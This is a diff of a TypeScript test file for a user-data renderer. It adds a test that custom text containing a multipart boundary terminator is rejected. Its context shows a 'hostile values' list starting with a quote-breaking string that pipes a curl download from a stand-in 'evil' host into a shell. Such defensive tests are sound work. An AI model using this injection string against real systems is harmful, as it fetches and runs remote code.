@@ -240,6 +240,12 @@ describe('Windows and Custom', () => {
   })
 })
 
+test.each(['AL2', 'AL2023'] as const)('%s refuses custom text that would end its own part', (family) => {
+  for (const customUserData of ['#!/bin/sh\n--//--\necho', '#!/bin/sh\n-\r-//\n']) {
+    expect(() => renderUserData(demoInputs({ family, customUserData }))).toThrow('the boundary of its parts')
+  }
+})
+
 describe('hostile values', () => {
   const hostile = [
     "x'; curl evil | sh; '",
